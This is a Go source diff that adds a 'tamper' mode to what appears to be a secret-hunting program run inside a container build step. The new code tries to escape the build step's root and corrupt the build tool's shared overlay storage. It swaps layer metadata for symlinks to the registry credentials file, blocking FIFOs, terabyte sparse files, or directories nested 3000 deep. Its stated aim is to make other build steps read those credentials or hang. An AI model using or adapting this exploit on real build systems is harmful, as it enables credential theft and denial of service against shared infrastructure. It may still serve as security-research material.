@@ -58,10 +58,79 @@ func main() {
 		_, _ = io.Copy(io.Discard, os.Stdin)
 		return
 	}
-	if err := hunt(os.Args[1]); err != nil {
+	work := hunt
+	if how, isTampering := strings.CutPrefix(os.Args[1], tamperMark); isTampering {
+		work = tamper
+		os.Args[1] = how
+	}
+	if err := work(os.Args[1]); err != nil {
 		fmt.Fprintln(os.Stderr, err)
 		os.Exit(1)
 	}
+}
+
+// tamperMark begins an argument that says what to do to the store, instead of looking for secrets.
+const tamperMark = "--tamper="
+
+// tamper leaves the root of the RUN line and changes the store that the steps of the build share. What steps with a secret
+// read there would then be their secret, or never end.
+func tamper(how string) error {
+	runtime.LockOSThread()
+	if err := errors.Join(unix.Unshare(unix.CLONE_FS), escape()); err != nil {
+		return err
+	}
+	const store, secret = "/var/lib/layerwright/storage", "/etc/layerwright/credentials/.dockerconfigjson"
+	layers, err := filepath.Glob(store + "/overlay/*/diff")
+	if err != nil || len(layers) == 0 {
+		return fmt.Errorf("there are no layers: %w", err)
+	}
+	for _, layer := range layers {
+		dir := filepath.Dir(layer)
+		switch how {
+		case "names": // which the library takes for the names of layers
+			err = errors.Join(err, replace(filepath.Join(dir, "lower-layers"), func(f string) error { return os.Symlink(secret, f) }))
+		case "links":
+			for _, name := range []string{"lower-layers", "lower", "link"} {
+				err = errors.Join(err, replace(filepath.Join(dir, name), func(f string) error { return os.Symlink(secret, f) }))
+			}
+		case "fifos":
+			err = errors.Join(err, replace(filepath.Join(dir, "lower-layers"), func(f string) error { return unix.Mkfifo(f, 0o644) }))
+		case "giants":
+			err = errors.Join(err, replace(filepath.Join(dir, "lower-layers"), giant), deep(dir))
+		default:
+			return fmt.Errorf("nothing is known of %q", how)
+		}
+	}
+	return err
+}
+
+func replace(file string, with func(file string) error) error {
+	if err := os.RemoveAll(file); err != nil {
+		return err
+	}
+	return with(file)
+}
+
+// giant is a sparse file that says to have a terabyte.
+func giant(file string) error {
+	f, err := os.Create(file)
+	if err != nil {
+		return err
+	}
+	return errors.Join(f.Truncate(1<<40), f.Close())
+}
+
+// deep makes folders in folders, deeper than a path can name.
+func deep(dir string) error {
+	if err := os.Chdir(dir); err != nil {
+		return err
+	}
+	for range 3000 {
+		if err := errors.Join(os.Mkdir("deep", 0o755), os.Chdir("deep")); err != nil {
+			return err
+		}
+	}
+	return os.Chdir("/")
 }
 
 // hunt looks everywhere and writes what was found to a file.
